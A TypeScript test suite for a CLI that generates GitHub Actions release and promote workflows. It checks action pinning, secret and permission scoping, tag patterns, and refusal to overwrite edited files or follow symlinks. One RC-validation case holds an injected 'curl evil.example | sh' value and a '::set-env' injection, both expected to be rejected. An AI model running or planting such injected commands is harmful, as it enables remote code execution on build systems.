import { mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { ciWorkflowInput, generatedWorkflows } from '../../release/src/ci/init.js';
import { PINNED_ACTIONS, RC_PATTERN, WORKFLOW_FILES, type CiWorkflowInput } from '../../release/src/ci/workflows.js';
import { main } from '../../release/src/cli.js';
import { parseConfig } from '../../release/src/config.js';

/** Glide's own release: Helm (chart and Pages index) and Homebrew, images on ghcr.io. */
const GLIDE_CONFIG = parseConfig(
  JSON.stringify({
    channels: {
      helm: { index: { repo: 'https://github.com/EinStack/charts.git', url: 'https://einstack.github.io/charts' } },
      homebrew: {},
    },
  }),
  'glide-release.config.json',
);
const GLIDE_INPUT = ciWorkflowInput(GLIDE_CONFIG, { glideReleaseVersion: '0.1.0', shards: 3, hasGoSum: true });

/** Every input shape the generator has: defaults, Glide's, every channel on another registry. */
const INPUTS: [string, CiWorkflowInput][] = [
  ['defaults', ciWorkflowInput(parseConfig('{}', 'glide-release.config.json'), { glideReleaseVersion: '0.1.0', shards: 1, hasGoSum: false })],
  ['Glide', GLIDE_INPUT],
  [
    'every channel, another registry',
    ciWorkflowInput(
      parseConfig(
        JSON.stringify({ images: { repository: 'registry.example.com/glide' }, channels: { homebrew: { tokenEnv: 'TAP_TOKEN' }, snap: {}, chocolatey: {} } }),
        'glide-release.config.json',
      ),
      { glideReleaseVersion: '0.2.0', shards: 16, hasGoSum: true },
    ),
  ],
];

interface Step {
  readonly uses?: string;
  readonly run?: string;
  readonly env?: Record<string, string>;
}
interface Workflow {
  readonly jobs: Record<string, { readonly steps: Step[]; readonly permissions?: Record<string, string>; readonly env?: Record<string, string> }>;
  readonly permissions: Record<string, string>;
}

const workflows = (input: CiWorkflowInput) => generatedWorkflows(input).map((file) => ({ ...file, workflow: parse(file.text) as Workflow }));

describe('the generated workflows', () => {
  it('are the golden files for Glide (helm with its Pages index, homebrew, 3 shares)', async () => {
    const [release, promote] = generatedWorkflows(GLIDE_INPUT);
    await expect(release!.text).toMatchFileSnapshot('golden/init-ci/release.yml');
    await expect(promote!.text).toMatchFileSnapshot('golden/init-ci/promote.yml');
  });

  it.each(INPUTS)('%s: no run: script holds a ${{ }} expression (values reach scripts through env:)', (_name, input) => {
    const scripts = workflows(input).flatMap(({ workflow }) => Object.values(workflow.jobs).flatMap((job) => job.steps.flatMap((step) => step.run ?? [])));
    expect(scripts.length).toBeGreaterThan(10);
    expect(scripts.filter((script) => script.includes('${{'))).toEqual([]);
  });

  it.each(INPUTS)('%s: every action is pinned to a full commit SHA, its version in a comment', (_name, input) => {
    const uses = generatedWorkflows(input).flatMap((file) => [...file.text.matchAll(/uses: (\S+) # (\S+)$/gm)].map((match) => `${match[1]} # ${match[2]}`));
    const pinned = Object.values(PINNED_ACTIONS).map((action) => `${action.uses}@${action.sha} # ${action.version}`);
    expect(uses.length).toBe(generatedWorkflows(input).reduce((count, file) => count + file.text.split('uses:').length - 1, 0));
    expect(new Set(uses)).toEqual(new Set(pinned));
    for (const action of Object.values(PINNED_ACTIONS)) expect(action.sha).toMatch(/^[0-9a-f]{40}$/);
  });

  it.each(INPUTS)('%s: only publish and promote may write, and only they see the secrets', (_name, input) => {
    for (const { path, workflow } of workflows(input)) {
      expect(workflow.permissions, path).toEqual({ contents: 'read' });
      for (const [id, job] of Object.entries(workflow.jobs)) {
        const writes = id === 'publish' || id === 'promote';
        expect(job.permissions, `${path} ${id}`).toEqual(writes ? { contents: 'write', packages: 'write' } : undefined);
        const secrets = job.steps.filter((step) => JSON.stringify(step).includes('secrets.'));
        expect(secrets.length > 0, `${path} ${id}`).toBe(writes);
      }
    }
  });

  it('passes each channel token and the other registry its secret, and installs what the channels run', () => {
    const release = workflows(INPUTS[2]![1])[0]!.workflow;
    const publish = release.jobs.publish!.steps.find((step) => step.run?.includes(' publish '))!;
    expect(Object.keys(publish.env!)).toEqual(['GITHUB_TOKEN', 'GLIDE_REGISTRY_USERNAME', 'GLIDE_REGISTRY_PASSWORD', 'TAP_TOKEN']);
    expect(publish.env!.TAP_TOKEN).toBe('${{ secrets.TAP_TOKEN }}');
    expect(release.jobs.publish!.steps.some((step) => step.run?.includes('snapd squashfs-tools libxml2-utils'))).toBe(true);
    expect(GLIDE_INPUT.channelTokenEnvs).toEqual(['HELM_REPO_TOKEN', 'HOMEBREW_TAP_TOKEN']);
    expect(GLIDE_INPUT.otherRegistries).toEqual([]);
  });

  // GitHub's filter patterns as the tags filter uses them: `[0-9]` one digit, `+` one or more of
  // the one before, anything else itself; a pattern matches the whole tag.
  const tagPatterns = (parse(generatedWorkflows(GLIDE_INPUT)[0]!.text) as { on: { push: { tags: string[] } } }).on.push.tags;
  const startsRun = (tag: string) =>
    tagPatterns.some((pattern) =>
      new RegExp(
        `^${pattern.replace(/\[0-9\]|\+|[^[\]+]/g, (part) => (part === '[0-9]' || part === '+' ? part : part.replace(/[\\^$.*?()[\]{}|-]/, '\\$&')))}$`,
      ).test(tag),
    );
  it.each([
    ['0.1.0', true],
    ['0.1.0-rc.1', true],
    ['10.20.30-rc.12', true],
    // What semver refuses and the globs let through: the plan job's gates refuse it.
    ['01.2.3', true],
    ['1.2.3-rc.0', true],
    ['v0.1.0', false],
    ['1.2.3-beta.1', false],
    ['1.2', false],
    ['1.2.3+build.5', false],
  ])('the tag %j starts a release run: %s', (tag, starts) => {
    expect(startsRun(tag)).toBe(starts);
  });

  it.each([
    ['0.1.0-rc.1', true],
    ['10.20.30-rc.12', true],
    ['0.1.0', false],
    ['v0.1.0-rc.1', false],
    ['0.1.0-rc.0', false],
    ['01.1.0-rc.1', false],
    ['0.1.0-rc.1; curl evil.example | sh', false],
    ['0.1.0-rc.1\n::set-env', false],
  ])('the promote job takes %j as an RC: %s', (rc, accepted) => {
    expect(new RegExp(RC_PATTERN).test(rc)).toBe(accepted);
  });
});

describe('glide-release init-ci', () => {
  let repo: string;
  beforeEach(async () => {
    repo = await mkdtemp(join(tmpdir(), 'glide-init-ci-'));
    await execa('git', ['init', '-q', repo]);
    await writeFile(join(repo, 'go.mod'), 'module example.com/glide\n\ngo 1.19\n');
  });
  afterEach(async () => {
    await rm(repo, { recursive: true, force: true });
  });

  async function initCi(args: string[] = [], cwd = repo) {
    let stdout = '';
    let stderr = '';
    const code = await main(['init-ci', ...args], {
      cwd,
      stdout: (text) => (stdout += text),
      stderr: (text) => (stderr += text),
      signal: new AbortController().signal,
    });
    return { code, stdout, stderr };
  }
  const read = (path: string) => readFile(join(repo, path), 'utf8');
  const expected = async () =>
    generatedWorkflows(
      ciWorkflowInput(parseConfig('{}', 'glide-release.config.json'), { glideReleaseVersion: await workspaceVersion(), shards: 4, hasGoSum: false }),
    );

  it('writes both workflows at the git root, from a subfolder too, pinning the glide-release that runs', async () => {
    await mkdir(join(repo, 'cmd', 'glide'), { recursive: true });
    const run = await initCi([], join(repo, 'cmd', 'glide'));
    expect(run.code).toBe(0);
    for (const file of await expected()) expect(await read(file.path)).toBe(file.text);
    expect(await read(WORKFLOW_FILES.release)).toContain(`npx --yes @einstack/glide-release@${await workspaceVersion()} plan`);
    expect(run.stderr).toContain('.github/workflows/release.yml: wrote (new)');
  });

  it('a second run over the same content says "up to date" and writes nothing', async () => {
    expect((await initCi()).code).toBe(0);
    const before = await Promise.all(Object.values(WORKFLOW_FILES).map((path) => stat(join(repo, path))));
    const again = await initCi();
    expect(again.code).toBe(0);
    expect(again.stderr).toBe('.github/workflows/release.yml: is up to date\n.github/workflows/promote.yml: is up to date\n');
    const after = await Promise.all(Object.values(WORKFLOW_FILES).map((path) => stat(join(repo, path))));
    // A write is a rename onto the path: a new inode.
    expect(after.map((file) => [file.ino, file.mtimeMs])).toEqual(before.map((file) => [file.ino, file.mtimeMs]));
  });

  it('an edited workflow: prints the unified diff, refuses with EWORKFLOWCHANGED (exit 1), and writes nothing at all', async () => {
    expect((await initCi()).code).toBe(0);
    await rm(join(repo, WORKFLOW_FILES.promote));
    const edited = (await read(WORKFLOW_FILES.release)).replace('timeout-minutes: 15', 'timeout-minutes: 30');
    await writeFile(join(repo, WORKFLOW_FILES.release), edited);

    const refused = await initCi();
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/^error EWORKFLOWCHANGED: \.github\/workflows\/release\.yml differs from what init-ci writes/);
    expect(refused.stderr).toContain('--force');
    expect(refused.stdout).toMatch(/^--- a\/\.github\/workflows\/release\.yml\n\+\+\+ b\/\.github\/workflows\/release\.yml\n@@ /);
    expect(refused.stdout).toContain('\n-    timeout-minutes: 30\n+    timeout-minutes: 15\n');
    expect(await read(WORKFLOW_FILES.release)).toBe(edited);
    // The missing promote.yml is not written either: a refused run changes nothing.
    await expect(stat(join(repo, WORKFLOW_FILES.promote))).rejects.toThrow(/ENOENT/);

    const dryRun = await initCi(['--dry-run']);
    expect(dryRun.code).toBe(1);
    // The same refusal, and the file it would create shown too.
    expect(dryRun.stdout.startsWith(refused.stdout)).toBe(true);
    expect(dryRun.stdout.slice(refused.stdout.length)).toMatch(/^--- \/dev\/null\n\+\+\+ b\/\.github\/workflows\/promote\.yml\n/);

    const forced = await initCi(['--force']);
    expect(forced.code).toBe(0);
    expect(forced.stdout).toBe(refused.stdout);
    expect(forced.stderr).toContain('.github/workflows/release.yml: wrote (replaced, --force)\n.github/workflows/promote.yml: wrote (new)\n');
    for (const file of await expected()) expect(await read(file.path)).toBe(file.text);
  });

  it('--dry-run writes nothing, and shows what it would write', async () => {
    const run = await initCi(['--dry-run', '--shards', '2']);
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/^--- \/dev\/null\n\+\+\+ b\/\.github\/workflows\/release\.yml\n@@ -0,0 \+1,\d+ @@\n\+# Written by glide-release /);
    expect(run.stdout).toContain('\n+          SHARDS: \'["1/2","2/2"]\'\n');
    expect(run.stdout).toContain('\n--- /dev/null\n+++ b/.github/workflows/promote.yml\n');
    expect(run.stderr).toBe('.github/workflows/release.yml: would write (new)\n.github/workflows/promote.yml: would write (new)\n');
    await expect(stat(join(repo, '.github'))).rejects.toThrow(/ENOENT/);
  });

  it('--shards N makes N shares; go.sum keys the Go cache when the module has one', async () => {
    await writeFile(join(repo, 'go.sum'), '');
    expect((await initCi(['--shards', '2'])).code).toBe(0);
    const release = parse(await read(WORKFLOW_FILES.release)) as Workflow;
    expect(release.jobs.plan!.steps.find((step) => step.env?.SHARDS)!.env!.SHARDS).toBe('["1/2","2/2"]');
    expect(JSON.stringify(release.jobs.build!.steps)).toContain('"cache-dependency-path":"go.sum"');
  });

  it.each(['0', '-1', '1.5', 'two', '257', ''])('--shards %j is a usage error (exit 2), nothing written', async (shards) => {
    const run = await initCi([`--shards=${shards}`]);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('error EUSAGE: --shards takes a whole number from 1 to 256');
    await expect(stat(join(repo, '.github'))).rejects.toThrow(/ENOENT/);
  });

  it.each([
    ['.github/workflows', 'a folder outside the repository'],
    ['.github', 'a folder outside the repository'],
    ['.github/workflows/release.yml', 'a file outside the repository'],
  ])('refuses to write through a symbolic link at %s (EUNSAFEPATH), and writes nothing', async (linked) => {
    const outside = await mkdtemp(join(tmpdir(), 'glide-init-ci-outside-'));
    try {
      const isFile = linked.endsWith('.yml');
      const target = isFile ? join(outside, 'release.yml') : outside;
      if (isFile) await writeFile(target, 'theirs\n');
      await mkdir(join(repo, linked, '..'), { recursive: true });
      await symlink(target, join(repo, linked));

      const run = await initCi(['--force']);
      expect(run.code).toBe(1);
      expect(run.stderr).toMatch(new RegExp(`^error EUNSAFEPATH: ${linked.replaceAll('.', '\\.')} is a symbolic link`));
      expect(isFile ? await readFile(target, 'utf8') : await readdir(outside)).toEqual(isFile ? 'theirs\n' : []);
      await expect(stat(join(repo, WORKFLOW_FILES.promote))).rejects.toThrow(/ENOENT|ENOTDIR/);
    } finally {
      await rm(outside, { recursive: true, force: true });
    }
  });

  it("reads the repository's glide-release.config: a channel's token comes from the secret its tokenEnv names", async () => {
    await writeFile(join(repo, 'glide-release.config.json'), JSON.stringify({ channels: { homebrew: { tokenEnv: 'TAP_TOKEN' } } }));
    expect((await initCi()).code).toBe(0);
    expect(await read(WORKFLOW_FILES.release)).toContain('\n          TAP_TOKEN: ${{ secrets.TAP_TOKEN }}\n');
  });

  it('a config it cannot read: ECONFIG (exit 1), nothing written', async () => {
    await writeFile(join(repo, 'glide-release.config.json'), JSON.stringify({ channels: { homebrew: { tokenEnv: 'TAP TOKEN' } } }));
    const run = await initCi();
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/^error ECONFIG: [^]*tokenEnv/);
    await expect(stat(join(repo, '.github'))).rejects.toThrow(/ENOENT/);
  });

  it('outside a git repository: EGIT (exit 1)', async () => {
    const plain = await mkdtemp(join(tmpdir(), 'glide-init-ci-plain-'));
    try {
      const run = await initCi([], plain);
      expect(run.code).toBe(1);
      expect(run.stderr).toMatch(/^error EGIT: /);
    } finally {
      await rm(plain, { recursive: true, force: true });
    }
  });
});

async function workspaceVersion(): Promise<string> {
  return (JSON.parse(await readFile(new URL('../../release/package.json', import.meta.url), 'utf8')) as { version: string }).version;
}
